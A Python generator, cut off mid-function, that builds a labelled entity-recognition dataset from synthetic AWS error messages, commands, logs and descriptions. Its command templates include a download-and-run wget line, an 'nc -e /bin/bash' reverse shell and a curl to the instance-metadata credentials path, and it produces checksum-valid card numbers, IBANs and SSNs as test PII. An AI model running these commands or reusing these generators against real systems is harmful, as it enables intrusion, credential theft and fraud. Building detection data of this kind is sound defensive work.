#!/usr/bin/env python3
"""Writes labelled.jsonl: the team's labelled entity set.

Hand-written templates in the shapes AWS really produces (authorization errors, EC2/IAM/KMS/
Lambda/Secrets Manager error messages, policy documents, SSM commands, log lines, tag values
and descriptions with PII) filled with random but valid values, plus hard negatives (key pair
names, request ids, order numbers, file names, enum values) labelled as nothing.

Each example has a fixed split: 25% of examples are `test` (drawn with a fixed seed), and some
parameter key names appear only in the test split, so the held-out set also measures how the
model generalises to parameter names it never saw. Deterministic: same seed, same file.

Usage: python3 generate.py > labelled.jsonl
"""
import json
import random
import string

R = random.Random(20241124)

# ---------------------------------------------------------------- value generators

HEX = "0123456789abcdef"
B32 = string.ascii_uppercase + "234567"
REGIONS = ["us-east-1", "us-east-2", "us-west-1", "us-west-2", "eu-west-1", "eu-west-2",
           "eu-central-1", "eu-north-1", "ap-southeast-1", "ap-southeast-2", "ap-northeast-1",
           "ap-south-1", "sa-east-1", "ca-central-1", "me-south-1", "af-south-1"]
WORDS = ["acme", "corp", "prod", "dev", "stage", "logs", "data", "backup", "analytics", "web",
         "api", "billing", "payments", "media", "assets", "ml", "etl", "raw", "curated", "audit",
         "trail", "archive", "reports", "images", "customer", "orders", "inventory", "shared",
         "security", "ops", "infra", "platform", "research", "finance", "hr", "static", "temp"]
FIRST = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy",
         "mallory", "oscar", "peggy", "trent", "victor", "walter", "maria", "li", "ahmed", "sofia",
         "kenji", "olga", "pedro", "anna", "tom"]
LAST = ["smith", "jones", "garcia", "chen", "patel", "kim", "muller", "rossi", "silva", "nguyen",
        "brown", "wilson", "taylor", "lee", "martin"]
ROLE_BASES = ["Admin", "ReadOnly", "OrganizationAccountAccessRole", "EC2InstanceRole",
              "LambdaExecRole", "DataPipelineRole", "SecurityAudit", "DeployRole", "BackupRole",
              "CloudWatchAgentRole", "EKSNodeRole", "GitHubActionsOIDC", "BreakGlass",
              "PowerUser", "ci-deploy-role", "etl-glue-role", "app-task-role", "vpc-flow-logs-role"]
FUNCS = ["process-orders", "thumbnailer", "DataSyncHandler", "auth-authorizer", "nightly-report",
         "s3-event-router", "slack-notifier", "rotate-secrets", "ingest_clicks", "PaymentWebhook",
         "image-resize", "cleanup-snapshots", "user-signup", "fraud-scorer"]
SECRETS = ["prod/db/password", "api-keys/stripe", "staging/redis", "ci/github-token",
           "prod/payments/api", "rds-master", "dev/app/config", "svc/ldap-bind", "analytics/warehouse",
           "prod/jwt-signing-key"]
TLDS = ["com", "net", "org", "io", "dev", "co", "ru", "cn", "xyz", "info", "tk", "top"]
ODD_TLDS = ["lan", "corp", "intra", "home", "priv"]
SERVICES = ["ec2", "lambda", "ecs-tasks", "cloudtrail", "config", "s3", "logs", "events",
            "states", "glue", "sagemaker", "ssm", "cloudformation", "elasticloadbalancing"]
ACTIONS = ["s3:GetObject", "s3:PutObject", "s3:ListBucket", "s3:DeleteBucket", "s3:PutBucketPolicy",
           "iam:PassRole", "iam:CreateUser", "iam:AttachUserPolicy", "iam:CreateAccessKey",
           "iam:PutRolePolicy", "iam:UpdateAssumeRolePolicy", "sts:AssumeRole",
           "sts:GetFederationToken", "kms:Decrypt", "kms:GenerateDataKey", "kms:CreateGrant",
           "kms:ScheduleKeyDeletion", "ec2:RunInstances", "ec2:DescribeInstances",
           "ec2:AuthorizeSecurityGroupIngress", "ec2:CreateSnapshot", "ec2:ModifyInstanceAttribute",
           "lambda:InvokeFunction", "lambda:UpdateFunctionCode", "lambda:CreateFunction",
           "secretsmanager:GetSecretValue", "secretsmanager:PutSecretValue",
           "cloudtrail:StopLogging", "cloudtrail:DeleteTrail", "guardduty:DeleteDetector",
           "organizations:LeaveOrganization", "ssm:SendCommand", "ssm:GetParameter",
           "rds:DeleteDBInstance", "rds:ModifyDBInstance", "logs:DeleteLogGroup",
           "dynamodb:Scan", "sns:Publish", "sqs:SendMessage", "ecr:GetAuthorizationToken"]
OPS = ["AssumeRole", "GetObject", "PutBucketPolicy", "CreateUser", "RunInstances", "Decrypt",
       "GetSecretValue", "InvokeFunction", "StopLogging", "ListBuckets", "DescribeInstances",
       "CreateAccessKey", "UpdateFunctionCode", "SendCommand"]
FILES = ["report.csv", "config.json", "backup.tar.gz", "install.sh", "main.py", "notes.txt",
         "data.parquet", "app.log", "id_rsa.pub", "index.html", "terraform.tfstate", "dump.sql"]


def hx(n):
    return "".join(R.choice(HEX) for _ in range(n))


def rid(prefix):
    return prefix + "-" + hx(R.choice([17, 17, 17, 8]))


def account():
    return "".join(R.choice(string.digits) for _ in range(12))


def user():
    c = R.random()
    f, l = R.choice(FIRST), R.choice(LAST)
    if c < 0.3:
        return f
    if c < 0.5:
        return f"{f}.{l}"
    if c < 0.65:
        return f"{f[0]}{l}"
    if c < 0.8:
        return R.choice(["svc-deploy", "ci-bot", "terraform", "backup-svc", "admin", "jenkins",
                         "analyst1", "readonly-user", "break-glass", "etl-runner"])
    return f"{f.capitalize()}{l.capitalize()}"


def role():
    r = R.choice(ROLE_BASES)
    if R.random() < 0.3:
        r += R.choice(["-prod", "-dev", "-" + R.choice(REGIONS), "2", "_v2"])
    return r


def bucket():
    n = R.choice([2, 2, 3])
    parts = R.sample(WORDS, n)
    if R.random() < 0.4:
        parts.append(R.choice([account(), R.choice(REGIONS), str(R.randint(1, 9999))]))
    return "-".join(parts)


def objkey():
    return R.choice([
        f"reports/{R.randint(2019, 2025)}/{R.randint(1, 12):02d}/{R.choice(FILES)}",
        f"backups/{R.choice(WORDS)}/{R.choice(FILES)}",
        f"{R.choice(WORDS)}/{R.choice(FILES)}",
        f"AWSLogs/{account()}/CloudTrail/{R.choice(REGIONS)}/2024/05/0{R.randint(1, 9)}/log.json.gz",
        ".env", "exports/customers.csv", f"uploads/{hx(8)}.jpg",
    ])


def uuid():
    return f"{hx(8)}-{hx(4)}-{hx(4)}-{hx(4)}-{hx(12)}"


def region():
    return R.choice(REGIONS)


def func():
    return R.choice(FUNCS) + (R.choice(["", "", "-prod", "-v2", "_dev"]))


def secret():
    return R.choice(SECRETS)


def akia():
    return "AKIA" + "".join(R.choice(B32) for _ in range(16))


def asia():
    return "ASIA" + "".join(R.choice(B32) for _ in range(16))


def ip_public():
    while True:
        a = R.randint(1, 223)
        if a in (10, 127, 169, 172, 192, 100, 0):
            continue
        return f"{a}.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(1, 254)}"


def ip_private():
    return R.choice([
        f"10.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(1, 254)}",
        f"172.{R.randint(16, 31)}.{R.randint(0, 255)}.{R.randint(1, 254)}",
        f"192.168.{R.randint(0, 255)}.{R.randint(1, 254)}",
    ])


def ipv4():
    return ip_public() if R.random() < 0.6 else ip_private()


def ipv6():
    return R.choice([
        f"2600:1f18:{hx(4)}:{hx(4)}::{hx(3)}",
        f"2a05:d018:{hx(3)}:{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}:{hx(4)}",
        f"fd12:{hx(4)}::{R.randint(1, 99)}",
        f"2001:db8::{hx(2)}",
    ]).replace(":0", ":").replace("::::", "::")


def cidr():
    return R.choice([
        "0.0.0.0/0", f"10.{R.randint(0, 255)}.0.0/16", f"{ip_public()}/32",
        f"192.168.{R.randint(0, 255)}.0/24", f"203.0.113.{R.randrange(0, 255, 16)}/28", "::/0",
        f"172.{R.randint(16, 31)}.0.0/12",
    ])


def domain():
    return f"{R.choice(WORDS)}{R.choice(['', '-' + R.choice(WORDS), str(R.randint(1, 99))])}.{R.choice(TLDS)}"


def host():
    return R.choice([domain(), f"{R.choice(['www', 'api', 'cdn', 'mail', 'vpn'])}.{domain()}"])


def odd_host():
    return f"{R.choice(WORDS)}{R.randint(1, 30):02d}.{R.choice(WORDS)}.{R.choice(ODD_TLDS)}"


def email():
    return f"{R.choice(FIRST)}.{R.choice(LAST)}@{domain()}"


def url():
    return R.choice([
        f"https://{host()}/{R.choice(WORDS)}/{R.choice(FILES)}",
        f"http://{host()}/{R.choice(['login', 'api/v1/upload', 'x', 'callback'])}",
        f"https://{host()}:{R.choice([8443, 8080, 4443])}/",
        f"http://{ip_public()}:{R.choice([80, 8000, 4444])}/{R.choice(FILES)}",
    ])


def action():
    return R.choice(ACTIONS)


def luhn_complete(prefix, length):
    digits = [int(c) for c in prefix]
    while len(digits) < length - 1:
        digits.append(R.randint(0, 9))
    total = 0
    for i, d in enumerate(reversed(digits)):
        if i % 2 == 0:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return "".join(map(str, digits)) + str((10 - total % 10) % 10)


def card():
    num = R.choice([luhn_complete("4", 16), luhn_complete(str(R.randint(51, 55)), 16),
                    luhn_complete(R.choice(["34", "37"]), 15), luhn_complete("6011", 16)])
    style = R.random()
    if len(num) == 16 and style < 0.4:
        return " ".join(num[i:i + 4] for i in range(0, 16, 4))
    if len(num) == 16 and style < 0.6:
        return "-".join(num[i:i + 4] for i in range(0, 16, 4))
    return num


def iban():
    country, length = R.choice([("DE", 22), ("GB", 22), ("FR", 27), ("NL", 18), ("ES", 24)])
    if country == "GB":
        bban = R.choice(["NWBK", "WEST", "BARC"]) + "".join(R.choice(string.digits) for _ in range(14))
    elif country == "NL":
        bban = R.choice(["ABNA", "INGB", "RABO"]) + "".join(R.choice(string.digits) for _ in range(10))
    else:
        bban = "".join(R.choice(string.digits) for _ in range(length - 4))
    rearranged = bban + country + "00"
    num = int("".join(str(int(c, 36)) for c in rearranged))
    check = 98 - num % 97
    s = f"{country}{check:02d}{bban}"
    if R.random() < 0.5:
        s = " ".join(s[i:i + 4] for i in range(0, len(s), 4))
    return s


def phone():
    return R.choice([
        f"+1 {R.randint(201, 989)}-555-{R.randint(100, 9999):04d}",
        f"+44 20 {R.randint(7000, 8999)} {R.randint(1000, 9999)}",
        f"({R.randint(201, 989)}) 555-{R.randint(1000, 9999)}",
        f"+49 30 {R.randint(100000, 999999)}",
        f"{R.randint(201, 989)}-555-{R.randint(1000, 9999)}",
    ])


def ssn():
    while True:
        a = R.randint(1, 899)
        if a != 666:
            return f"{a:03d}-{R.randint(1, 99):02d}-{R.randint(1, 9999):04d}"


def nino():
    p = R.choice(["AB", "CE", "JG", "KL", "PR", "SW", "TY", "WX"])
    d = "".join(R.choice(string.digits) for _ in range(6))
    s = R.choice("ABCD")
    if R.random() < 0.5:
        return f"{p} {d[:2]} {d[2:4]} {d[4:]} {s}"
    return f"{p}{d}{s}"


# ---------------------------------------------------------------- ARNs

def arn_user(acc=None):
    path = R.choice(["", "", "", "engineering/", "contractors/"])
    return f"arn:aws:iam::{acc or account()}:user/{path}{user()}"


def arn_role(acc=None):
    return f"arn:aws:iam::{acc or account()}:role/{R.choice(['', '', 'service-role/'])}{role()}"


def arn_assumed(acc=None):
    session = R.choice([user(), f"i-{hx(17)}", f"{R.choice(FIRST)}@{domain()}", "botocore-session-" + str(R.randint(10**9, 10**10))])
    return f"arn:aws:sts::{acc or account()}:assumed-role/{role()}/{session}"


def arn_root(acc=None):
    return f"arn:aws:iam::{acc or account()}:root"


def arn_federated(acc=None):
    return f"arn:aws:sts::{acc or account()}:federated-user/{user()}"


def arn_bucket():
    return f"arn:aws:s3:::{bucket()}"


def arn_object():
    return f"arn:aws:s3:::{bucket()}/{R.choice([objkey(), '*', R.choice(WORDS) + '/*'])}"


def arn_kms(acc=None):
    if R.random() < 0.75:
        return f"arn:aws:kms:{region()}:{acc or account()}:key/{R.choice([uuid(), 'mrk-' + hx(32)])}"
    return f"arn:aws:kms:{region()}:{acc or account()}:alias/{R.choice(WORDS)}-{R.choice(WORDS)}"


def arn_lambda(acc=None):
    return f"arn:aws:lambda:{region()}:{acc or account()}:function:{func()}{R.choice(['', '', ':PROD', ':3'])}"


def arn_secret(acc=None):
    return f"arn:aws:secretsmanager:{region()}:{acc or account()}:secret:{secret()}-{''.join(R.choice(string.ascii_letters) for _ in range(6))}"


def arn_instance(acc=None):
    return f"arn:aws:ec2:{region()}:{acc or account()}:instance/i-{hx(17)}"


def arn_other(acc=None):
    a = acc or account()
    return R.choice([
        f"arn:aws:dynamodb:{region()}:{a}:table/{R.choice(WORDS).capitalize()}{R.choice(['Table', 'Orders', 'Sessions'])}",
        f"arn:aws:sns:{region()}:{a}:{R.choice(WORDS)}-alerts",
        f"arn:aws:sqs:{region()}:{a}:{R.choice(WORDS)}-queue",
        f"arn:aws:iam::{a}:policy/{R.choice(WORDS).capitalize()}Policy",
        "arn:aws:iam::aws:policy/AdministratorAccess",
        f"arn:aws:logs:{region()}:{a}:log-group:/aws/lambda/{func()}",
        f"arn:aws:cloudtrail:{region()}:{a}:trail/{R.choice(WORDS)}-trail",
        f"arn:aws:rds:{region()}:{a}:db:{R.choice(WORDS)}-db",
        f"arn:aws:iam::{a}:instance-profile/{role()}",
    ])


PRINCIPAL_ARNS = [("iam_user", arn_user), ("iam_role", arn_role), ("assumed_role", arn_assumed),
                  ("root", arn_root), ("federated_user", arn_federated)]
RESOURCE_ARNS = [("s3_bucket", arn_bucket), ("s3_object", arn_object), ("kms_key", arn_kms),
                 ("lambda_function", arn_lambda), ("secret", arn_secret), ("iam_role", arn_role),
                 ("iam_user", arn_user), ("ec2_instance", arn_instance), ("arn", arn_other)]


def principal():
    t, f = R.choice(PRINCIPAL_ARNS[:3] + PRINCIPAL_ARNS[2:3])
    return t, f()


def resource():
    t, f = R.choice(RESOURCE_ARNS)
    return t, f()


# ---------------------------------------------------------------- building texts with spans

class T:
    """Accumulates text pieces and labelled spans."""

    def __init__(self):
        self.parts = []
        self.spans = []
        self.n = 0

    def add(self, s, label=None):
        if label:
            self.spans.append([self.n, self.n + len(s.encode()), label])
        self.parts.append(s)
        self.n += len(s.encode())
        return self

    def text(self):
        return "".join(self.parts)


def fill(template, slots):
    """template: text with {name} slots; slots: name -> (label or None, value)."""
    t = T()
    i = 0
    while i < len(template):
        j = template.find("{", i)
        if j < 0:
            t.add(template[i:])
            break
        t.add(template[i:j])
        k = template.index("}", j)
        label, value = slots[template[j + 1:k]]
        t.add(value, label)
        i = k + 1
    return t


EXAMPLES = []


def emit(kind, service, path, t, split=None):
    EXAMPLES.append({"kind": kind, "service": service, "path": path, "text": t.text(),
                     "spans": t.spans, "force_split": split})


# ---------------------------------------------------------------- free text: error messages

def authz_error():
    pt, p = principal()
    rt, r = resource()
    act = action()
    tmpl = R.choice([
        "User: {p} is not authorized to perform: {a} on resource: {r}",
        "User: {p} is not authorized to perform: {a} on resource: {r} because no identity-based policy allows the {a2} action",
        "User: {p} is not authorized to perform: {a} on resource: {r} with an explicit deny in a service control policy",
        "User: {p} is not authorized to perform: {a} on resource: {r} with an explicit deny in an identity-based policy",
        "User: {p} is not authorized to perform: {a} on resource: {r} because no resource-based policy allows the {a2} action",
        "An error occurred (AccessDenied) when calling the {op} operation: User: {p} is not authorized to perform: {a} on resource: {r}",
        "An error occurred (AccessDeniedException) when calling the {op} operation: User: {p} is not authorized to perform: {a} on resource: {r} because no session policy allows the {a2} action",
        "User: {p} is not authorized to perform: {a} because no identity-based policy allows the {a2} action",
        "User {p} is not authorized to perform {a} on {r}",
        "{p} is not authorized to perform: {a} on resource: {r}",
        "Not authorized to perform {a}",
    ])
    svc = act.split(":")[0]
    emit("free_text", svc, "errorMessage",
         fill(tmpl, {"p": (pt, p), "a": ("iam_action", act), "a2": ("iam_action", act),
                     "r": (rt, r), "op": (None, R.choice(OPS))}))


def ec2_error():
    t = R.choice([
        ("The instance ID '{x}' does not exist", "ec2_instance", lambda: f"i-{hx(17)}"),
        ("The instance IDs '{x}, {y}' do not exist", "ec2_instance", lambda: f"i-{hx(17)}"),
        ("The security group '{x}' does not exist in VPC '{y}'", "security_group", lambda: rid("sg")),
        ("The security group '{x}' does not exist", "security_group", lambda: rid("sg")),
        ("The subnet ID '{x}' does not exist", "subnet", lambda: rid("subnet")),
        ("The vpc ID '{x}' does not exist", "vpc", lambda: rid("vpc")),
        ("The volume '{x}' does not exist.", "volume", lambda: rid("vol")),
        ("The snapshot '{x}' does not exist.", "snapshot", lambda: rid("snap")),
        ("The image id '[{x}]' does not exist", "ami", lambda: rid("ami")),
        ("The networkInterface ID '{x}' does not exist", "eni", lambda: rid("eni")),
        ("The instance '{x}' is not in a state from which it can be stopped.", "ec2_instance", lambda: f"i-{hx(17)}"),
        ("Volume {x} is currently attached to {y}", "volume", lambda: rid("vol")),
        ("You are not authorized to perform this operation on {x}.", "ec2_instance", lambda: f"i-{hx(17)}"),
        ("the specified rule \"peer: {c}, TCP, from port: 22, to port: 22, ALLOW\" already exists", None, None),
    ])
    tmpl, label, gen = t
    if label is None:
        emit("free_text", "ec2", "errorMessage", fill(tmpl, {"c": ("ip_cidr", cidr())}))
        return
    slots = {"x": (label, gen())}
    if "{y}" in tmpl:
        if "VPC" in tmpl:
            slots["y"] = ("vpc", rid("vpc"))
        elif "attached" in tmpl:
            slots["y"] = ("ec2_instance", f"i-{hx(17)}")
        else:
            slots["y"] = (label, gen())
    emit("free_text", "ec2", "errorMessage", fill(tmpl, slots))


def iam_error():
    choice = R.random()
    if choice < 0.2:
        tmpl, slots = "The user with name {n} cannot be found.", {"n": ("iam_user", user())}
    elif choice < 0.4:
        tmpl, slots = "The role with name {n} cannot be found.", {"n": ("iam_role", role())}
    elif choice < 0.5:
        tmpl, slots = "Role with name {n} already exists.", {"n": ("iam_role", role())}
    elif choice < 0.6:
        tmpl, slots = "User with name {n} already exists.", {"n": ("iam_user", user())}
    elif choice < 0.7:
        tmpl, slots = "The Access Key with id {k} cannot be found.", {"k": ("access_key", akia())}
    elif choice < 0.78:
        tmpl, slots = "Invalid principal in policy: \"AWS\":\"{p}\"", {"p": R.choice([("iam_user", arn_user()), ("iam_role", arn_role())])}
    elif choice < 0.86:
        tmpl, slots = "Cannot exceed quota for AccessKeysPerUser: 2 (user {n})", {"n": ("iam_user", user())}
    elif choice < 0.93:
        tmpl, slots = "Cannot delete entity, must detach all policies first.", {}
    else:
        tmpl, slots = "The policy {p} was not found.", {"p": ("arn", f"arn:aws:iam::{account()}:policy/{R.choice(WORDS).capitalize()}Access")}
    emit("free_text", "iam", "errorMessage", fill(tmpl, slots))


def kms_lambda_secrets_error():
    c = R.random()
    if c < 0.12:
        emit("free_text", "kms", "errorMessage", fill("Key '{k}' does not exist", {"k": ("kms_key", arn_kms())}))
    elif c < 0.22:
        emit("free_text", "kms", "errorMessage", fill("{k} is pending deletion.", {"k": ("kms_key", arn_kms())}))
    elif c < 0.3:
        emit("free_text", "kms", "errorMessage", fill("Alias {k} is not found.", {"k": ("kms_key", f"arn:aws:kms:{region()}:{account()}:alias/{R.choice(WORDS)}")}))
    elif c < 0.38:
        emit("free_text", "kms", "errorMessage", fill("Invalid keyId {k}", {"k": ("kms_key", uuid())}))
    elif c < 0.44:
        emit("free_text", "kms", "errorMessage", fill("The key ID {k} is disabled.", {"k": ("kms_key", uuid())}))
    elif c < 0.52:
        emit("free_text", "lambda", "errorMessage", fill("Function not found: {f}", {"f": ("lambda_function", arn_lambda())}))
    elif c < 0.58:
        emit("free_text", "lambda", "errorMessage", fill("The function {f} is in Pending state.", {"f": ("lambda_function", func())}))
    elif c < 0.64:
        emit("free_text", "lambda", "errorMessage", fill(
            "Lambda was unable to configure access to your environment variables because the KMS key is invalid for CreateGrant. KMS Exception: InvalidStateException KMS Message: {k} is pending deletion.",
            {"k": ("kms_key", arn_kms())}))
    elif c < 0.7:
        emit("free_text", "lambda", "errorMessage", fill("The role defined for the function cannot be assumed by Lambda.", {}))
    elif c < 0.78:
        emit("free_text", "secretsmanager", "errorMessage", fill("Secrets Manager can't find the specified secret.", {}))
    elif c < 0.84:
        emit("free_text", "secretsmanager", "errorMessage", fill("The secret {s} is scheduled for deletion.", {"s": ("secret", secret())}))
    elif c < 0.9:
        emit("free_text", "secretsmanager", "errorMessage", fill("Secret {s} not found", {"s": ("secret", arn_secret())}))
    else:
        emit("free_text", "sts", "errorMessage", fill("Roles may not be assumed by root accounts.", {}))


def misc_error():
    c = R.random()
    acc = account()
    if c < 0.1:
        emit("free_text", "organizations", "errorMessage", fill("Account {a} is not a member of this organization.", {"a": ("account_id", acc)}))
    elif c < 0.18:
        emit("free_text", "s3", "errorMessage", fill("The bucket {b} is not owned by account {a}", {"b": ("s3_bucket", bucket()), "a": ("account_id", acc)}))
    elif c < 0.26:
        emit("free_text", "s3", "errorMessage", fill("The specified bucket does not exist", {}))
    elif c < 0.32:
        emit("free_text", "s3", "errorMessage", fill("Access Denied", {}))
    elif c < 0.4:
        emit("free_text", "sts", "errorMessage", fill("The security token included in the request is invalid.", {}))
    elif c < 0.46:
        emit("free_text", "ec2", "errorMessage", fill("Request {r} has expired; retry the call.", {"r": (None, uuid())}))
    elif c < 0.52:
        emit("free_text", "ec2", "errorMessage", fill("The key pair '{k}' does not exist", {"k": (None, R.choice(["prod-key", "bastion", "ec2-user-key", "deploy_2024", "kp-" + R.choice(WORDS)]))}))
    elif c < 0.58:
        emit("free_text", "ec2", "errorMessage", fill("The allocation ID 'eipalloc-{x}' does not exist", {"x": (None, hx(17))}))
    elif c < 0.66:
        emit("free_text", "s3", "errorMessage", fill(
            "Could not connect to the endpoint URL: \"{u}\"",
            {"u": ("url", f"https://{R.choice(['s3', 'sts', 'iam', 'kms', 'ec2'])}.{region()}.amazonaws.com/")}))
    elif c < 0.72:
        emit("free_text", "support", "errorMessage", fill("Ticket {t} was opened for order {o}", {"t": (None, account()), "o": (None, str(R.randint(10**11, 10**12 - 1)))}))
    elif c < 0.8:
        emit("free_text", "s3", "errorMessage", fill("Access denied for source IP {ip} by bucket policy on {b}", {"ip": ("ipv4", ipv4()), "b": ("s3_bucket", arn_bucket())}))
    elif c < 0.86:
        emit("free_text", "sts", "errorMessage", fill("Cross-account pass role is not allowed: account {a} cannot pass role {r}", {"a": ("account_id", acc), "r": ("iam_role", arn_role())}))
    elif c < 0.92:
        emit("free_text", "ec2", "errorMessage", fill("Requested region {g} is disabled for this account", {"g": ("region", region())}))
    else:
        emit("free_text", "iam", "errorMessage", fill("Rate exceeded", {}))


# ---------------------------------------------------------------- free text: commands, logs, descriptions

def ssm_command():
    c = R.random()
    if c < 0.15:
        t = fill("curl -s {u}", {"u": ("url", f"http://169.254.169.254/latest/meta-data/iam/security-credentials/{role()}")})
    elif c < 0.3:
        t = fill("aws s3 cp {o} /tmp/{f} --region {g}", {"o": ("s3_object", f"s3://{bucket()}/{objkey()}"), "f": (None, R.choice(FILES)), "g": ("region", region())})
    elif c < 0.42:
        t = fill("wget {u} -O /tmp/p.sh && bash /tmp/p.sh", {"u": ("url", url())})
    elif c < 0.52:
        t = fill("nc -e /bin/bash {ip} 4444", {"ip": ("ipv4", ip_public())})
    elif c < 0.62:
        t = fill("nslookup {d}", {"d": ("domain", host())})
    elif c < 0.72:
        t = fill("aws sts assume-role --role-arn {r} --role-session-name {s}", {"r": ("iam_role", arn_role()), "s": (None, user())})
    elif c < 0.8:
        t = fill("aws s3 sync /var/backups {b}", {"b": ("s3_bucket", f"s3://{bucket()}")})
    elif c < 0.88:
        label = R.choice(["ipv4", "ipv6"])
        t = fill("ping -c 3 {ip}", {"ip": (label, ipv4() if label == "ipv4" else ipv6())})
    else:
        t = fill("aws secretsmanager get-secret-value --secret-id {s} --region {g}", {"s": ("secret", arn_secret()), "g": ("region", region())})
    emit("free_text", "ssm", "requestParameters.parameters.commands", t)


def description():
    c = R.random()
    if c < 0.12:
        t = fill("Contact {e} or call {p} for access", {"e": ("email", email()), "p": ("phone", phone())})
    elif c < 0.22:
        t = fill("Owner: {e}", {"e": ("email", email())})
    elif c < 0.32:
        t = fill("Customer card {c} exp 12/27 (test data, remove)", {"c": ("payment_card", card())})
    elif c < 0.4:
        t = fill("Refund to IBAN {i} approved", {"i": ("iban", iban())})
    elif c < 0.48:
        t = fill("employee SSN {s} on file", {"s": ("national_id", ssn())})
    elif c < 0.54:
        t = fill("NI number {n} verified", {"n": ("national_id", nino())})
    elif c < 0.64:
        t = fill("Allow SSH from office {c}", {"c": ("ip_cidr", cidr())})
    elif c < 0.72:
        t = fill("VPN endpoint {ip} ({h})", {"ip": ("ipv4", ip_public()), "h": ("domain", host())})
    elif c < 0.8:
        t = fill("Temporary access for {u} until Friday, ticket OPS-{n}", {"u": ("email", email()), "n": (None, str(R.randint(100, 9999)))})
    elif c < 0.88:
        t = fill("Created by Terraform for account {a} in {g}", {"a": ("account_id", account()), "g": ("region", region())})
    elif c < 0.94:
        t = fill("mobile {p}", {"p": ("phone", phone())})
    else:
        t = fill("see {u} for the runbook", {"u": ("url", url())})
    emit("free_text", R.choice(["ec2", "iam", "s3", "secretsmanager", "lambda"]), "requestParameters.description", t)


def log_line():
    c = R.random()
    ts = f"2024-0{R.randint(1, 9)}-{R.randint(10, 28)}T{R.randint(10, 23)}:{R.randint(10, 59)}:{R.randint(10, 59)}Z"
    if c < 0.15:
        t = fill(ts + " ERROR failed login for {e} from {ip}", {"e": ("email", email()), "ip": ("ipv4", ip_public())})
    elif c < 0.3:
        t = fill("Accepted publickey for ec2-user from {ip} port {p} ssh2", {"ip": ("ipv4", ipv4()), "p": (None, str(R.randint(1024, 65000)))})
    elif c < 0.42:
        t = fill("Connection from {a} port {p} on {b} port 22", {"a": ("ipv4", ip_public()), "p": (None, str(R.randint(1024, 65000))), "b": ("ipv4", ip_private())})
    elif c < 0.54:
        t = fill(ts + " DNS query {d} A from {ip}", {"d": ("domain", host()), "ip": ("ipv4", ip_private())})
    elif c < 0.66:
        t = fill("[INFO] Uploaded {o} ({n} bytes)", {"o": ("s3_object", f"s3://{bucket()}/{objkey()}"), "n": (None, str(R.randint(100, 10**7)))})
    elif c < 0.76:
        t = fill("kms decrypt key={k} ctx=aws:s3:arn", {"k": ("kms_key", arn_kms())})
    elif c < 0.86:
        t = fill("src={a} dst={b} action=REJECT", {"a": ("ipv4", ip_public()), "b": ("ipv4", ip_private())})
    elif c < 0.93:
        t = fill("client {ip6} requested {u}", {"ip6": ("ipv6", ipv6()), "u": ("url", url())})
    else:
        t = fill("python3 -m pip install requests==2.31.0 (version 10.2.1.4 of the agent)", {})
    emit("log", R.choice(["ssm", "logs", ""]), "responseElements.output", t)


# ---------------------------------------------------------------- parameters under unknown keys

PARAM_PREFIXES_TRAIN = ["source", "target", "destination", "backup", "export", "archive", "log",
                        "audit", "replica", "primary", "default", "deploy", "execution", "owner"]
PARAM_PREFIXES_TEST = ["mirror", "staging", "fallback", "report"]

TYPE_KEYS = {
    "s3_bucket": (["Bucket", "BucketName", "Bucket"], bucket),
    "iam_role": (["Role", "RoleName", "Role"], role),
    "iam_user": (["User", "UserName", "User"], user),
    "lambda_function": (["Function", "FunctionName", "Lambda"], func),
    "secret": (["Secret", "SecretName", "Secret"], secret),
    "domain": (["Host", "Domain", "HostName"], lambda: R.choice([host(), odd_host()])),
    "account_id": (["Account", "AccountNumber", "Owner"], account),
    "kms_key": (["KeyId", "Key", "CmkId"], lambda: R.choice([uuid(), uuid(), f"alias/{R.choice(WORDS)}"])),
    "region": (["Region"], region),
}

NEGATIVE_PARAMS = [
    ("requestToken", uuid), ("correlationId", uuid), ("clientRequestId", uuid),
    ("orderNumber", account), ("ticketId", account), ("fileName", lambda: R.choice(FILES)),
    ("keyName", lambda: R.choice(["prod-key", "bastion", "deploy_2024"])),
    ("instanceType", lambda: R.choice(["t3.micro", "m5.large", "c6g.xlarge"])),
    ("engineVersion", lambda: R.choice(["8.0.35", "15.4", "5.7.mysql_aurora.2.11.2"])),
    ("tableName", lambda: R.choice(WORDS).capitalize() + "Table"),
    ("queueName", lambda: R.choice(WORDS) + "-queue"),
    ("topicName", lambda: R.choice(WORDS) + "-alerts"),
    ("clusterName", lambda: R.choice(WORDS) + "-cluster"),
    ("parameterName", lambda: "/" + "/".join(R.sample(WORDS, 3))),
    ("targetName", lambda: R.choice(WORDS) + "-" + R.choice(WORDS)),
    ("resourceName", lambda: R.choice(WORDS) + "-" + str(R.randint(1, 99))),
    ("roleSessionDuration", lambda: str(R.randint(900, 43200))),
    ("sourceVersion", lambda: "v" + str(R.randint(1, 9)) + "." + str(R.randint(0, 20))),
    # Keys that contain a type word but hold no entity.
    ("userDataRef", lambda: R.choice(["sensitiveDataRemoved", "HIDDEN_DUE_TO_SECURITY_REASONS", "redacted"])),
    ("functionVersion", lambda: R.choice(["$LATEST", "12", "live"])),
    ("secretVersionStage", lambda: R.choice(["AWSCURRENT", "AWSPENDING", "previous"])),
    ("userPoolId", lambda: R.choice(REGIONS) + "_" + "".join(R.choice(string.ascii_letters) for _ in range(9))),
    ("roleDescription", lambda: R.choice(["deploys the app", "read only", "managed-by-terraform"])),
    ("bucketKeyEnabled", lambda: R.choice(["true", "enabled"])),
    ("userStatus", lambda: R.choice(["confirmed", "force-change-password", "archived"])),
    ("hostKeyAlgorithm", lambda: R.choice(["ssh-rsa", "ssh-ed25519", "ecdsa-sha2-nistp256"])),
]


def param():
    c = R.random()
    test_only = R.random() < 0.15
    prefixes = PARAM_PREFIXES_TEST if test_only else PARAM_PREFIXES_TRAIN
    if c < 0.62:
        label = R.choice(list(TYPE_KEYS))
        suffixes, gen = TYPE_KEYS[label]
        key = R.choice(prefixes) + R.choice(suffixes)
        value = gen()
        t = T().add(value, label)
        emit("param", R.choice(["", "glue", "datasync", "backup", "events", "states", "codebuild", "transfer"]), "requestParameters." + key, t, "test" if test_only else None)
    elif c < 0.8:
        key, gen = R.choice(NEGATIVE_PARAMS)
        emit("param", R.choice(["", "glue", "ec2", "rds", "sns", "ssm"]), "requestParameters." + key, T().add(gen()), None)
    else:
        # Generic keys holding strongly typed values.
        key = R.choice(["target", "resource", "destination", "principal", "value", "entry", "subject"])
